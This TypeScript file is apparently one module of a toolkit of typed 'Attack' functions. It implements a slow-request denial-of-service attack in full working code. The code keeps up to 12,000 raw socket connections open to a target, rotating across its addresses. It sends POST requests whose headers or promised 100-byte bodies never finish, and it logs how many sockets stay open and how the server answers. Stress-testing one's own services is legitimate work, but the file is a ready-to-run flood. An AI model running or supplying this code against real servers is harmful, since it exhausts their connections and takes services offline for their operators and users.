import { openConnection, requestHead } from '../../clients/raw-socket.ts'
import { count, keepHighest } from '../../support/counts.ts'
import type { Attack } from '../attack.ts'

const mostOpen = 12_000

/** Posts whose body never comes to its end, and requests whose headers do not. */
export const unfinishedRequests: Attack = ({ url, addresses }, achieved) => {
  const head = requestHead('POST', url, { 'Content-Type': 'application/json' })
  let open = 0
  let number = 0
  const next = () => {
    if (open > mostOpen) return
    open += 1
    const socket = openConnection({ url, address: addresses[(number += 1) % addresses.length] })
    socket.once('close', () => (open -= 1))
    socket.once('data', (data) => count(achieved, `answered ${data.toString('latin1').slice(9, 12)}`))
    socket.write(number % 10 === 0 ? head : `${head}Content-Length: 100\r\n\r\n[`)
    keepHighest(achieved, 'open at once', open)
  }
  setInterval(() => Array.from({ length: 6 }, next), 20)
}
